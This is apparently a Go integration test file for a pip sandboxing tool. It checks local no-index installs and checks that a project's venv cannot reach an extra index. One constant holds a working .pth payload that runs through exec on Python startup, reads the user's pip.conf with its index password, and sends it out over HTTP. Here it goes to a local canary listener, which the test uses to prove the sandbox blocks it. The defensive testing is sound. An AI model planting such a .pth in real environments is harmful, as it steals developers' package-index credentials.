package integration

import (
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// TestPipLocalProjectNoIndex: `pip install --no-build-isolation --no-index .` of a
// setup.cfg project (name = x, unquoted, as setuptools reads it) with the build
// backend already in the venv. Nothing is fetched: the download's list is empty
// (before, phylum-box's fetch program died on a null list with a TypeError, exit
// 1), and setuptools' x.egg-info is synced as the install's by-product (before, it
// was refused as outside pip's outputs, exit 4). The same project through an
// index-backed install of a dependency still fetches and installs it.
func TestPipLocalProjectNoIndex(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		db := regMalDB(t, m, "PyPI")
		b := pyProject(t, m)
		hostSh(t, m, b.Project, ".venv/bin/python -m pip install -q --no-index /usr/share/python-wheels/setuptools-*.whl /usr/share/python-wheels/wheel-*.whl")
		writeFile(t, filepath.Join(b.Project, "setup.cfg"), "[metadata]\nname = pbox-cfgproj\nversion = 0.1\n\n[options]\npackages = pbox_cfgproj\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "setup.py"), "from setuptools import setup\nsetup()\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "pbox_cfgproj", "__init__.py"), "HELLO = 'cfg'\n", 0o644)
		chownTree(t, m, b.Project)
		r := b.pip(ix, db, "install", "--no-build-isolation", "--no-index", ".")
		wantCode(t, r, 0, "pip install --no-build-isolation --no-index .")
		if strings.Contains(r.Stderr, "Traceback") || strings.Contains(r.Stderr, "refused") {
			t.Errorf("a local install without an index failed in the fetch or had writes refused\n%s", r)
		}
		if got := pipVenvImport(t, b, "import pbox_cfgproj; print(pbox_cfgproj.HELLO)"); got != "cfg" {
			t.Errorf("the local project is not installed: %q\n%s", got, r)
		}
		if !pathExists(filepath.Join(b.Project, "pbox_cfgproj.egg-info", "PKG-INFO")) {
			t.Errorf("setuptools' egg-info was not synced\n%s", r)
		}
		// Its twin with an index: a dependency is fetched, checked and installed.
		writeFile(t, filepath.Join(b.Project, "setup.cfg"), "[metadata]\nname = pbox-cfgproj\nversion = 0.2\n\n[options]\npackages = pbox_cfgproj\ninstall_requires = pbox-dep\n", 0o644)
		chownTree(t, m, b.Project)
		r = b.pip(ix, db, "install", "--no-build-isolation", ".")
		wantCode(t, r, 0, "pip install --no-build-isolation . (with a dependency from the index)")
		if got := pipVenvImport(t, b, "import pbox_dep, pbox_cfgproj; print(pbox_dep.VALUE)"); got != "dep" {
			t.Errorf("the dependency is not installed: %q\n%s", got, r)
		}
	})
}

// pipSendConfPth is a .pth a checkout commits into its venv: in a step with the
// egress proxy (pip's resolve, the venv's python), it sends the user's pip.conf
// to the index the venv's pip.conf names, a 127.0.0.1 listener.
const pipSendConfPth = `import os; exec("try:\n import urllib.request, urllib.parse\n if os.environ.get('HTTP_PROXY'): urllib.request.urlopen('http://127.0.0.1:@PORT@/simple/x/?' + urllib.parse.quote(open(os.path.expanduser('~/.config/pip/pip.conf')).read()), timeout=3)\nexcept Exception: pass")
`

// TestPipNoIndexReachesNoProjectIndex: with --no-index pip asks no index, so none
// is reachable from its resolve — not the one a checkout's .venv/pip.conf names.
// Before, that index was on the resolve step's egress list, and a .pth committed
// into the venv (run there, with the user's pip.conf bound) sent the user's index
// password to it (measured with this test, root and rootless). The local install
// itself works.
func TestPipNoIndexReachesNoProjectIndex(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "PyPI")
		b := pyProject(t, m)
		hostSh(t, m, b.Project, ".venv/bin/python -m pip install -q --no-index /usr/share/python-wheels/setuptools-*.whl /usr/share/python-wheels/wheel-*.whl")
		writeFile(t, filepath.Join(b.Home, ".config", "pip", "pip.conf"), "[global]\nextra-index-url = http://pbox:"+b.Mark+"@127.0.0.1:"+strconv.Itoa(ix.Port)+"/simple/\n", 0o600)
		chownTree(t, m, b.Home)
		writeFile(t, filepath.Join(b.Project, ".venv", "pip.conf"), "[global]\nextra-index-url = http://127.0.0.1:"+strconv.Itoa(canary.Port)+"/simple/\n", 0o644)
		writeFile(t, filepath.Join(sitePackages(t, filepath.Join(b.Project, ".venv")), "pbox_sendconf.pth"), strings.ReplaceAll(pipSendConfPth, "@PORT@", strconv.Itoa(canary.Port)), 0o644)
		writeFile(t, filepath.Join(b.Project, "setup.cfg"), "[metadata]\nname = pbox-cfgproj\nversion = 0.1\n\n[options]\npackages = pbox_cfgproj\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "setup.py"), "from setuptools import setup\nsetup()\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "pbox_cfgproj", "__init__.py"), "HELLO = 'cfg'\n", 0o644)
		chownTree(t, m, b.Project)
		r := b.pip(ix, db, "install", "--no-build-isolation", "--no-index", ".")
		wantCode(t, r, 0, "pip install --no-build-isolation --no-index . with a venv pip.conf naming another index")
		pipWantCanarySilent(t, canary, r)
		if got := pipVenvImport(t, b, "import pbox_cfgproj; print(pbox_cfgproj.HELLO)"); got != "cfg" {
			t.Errorf("the local project is not installed: %q\n%s", got, r)
		}
	})
}
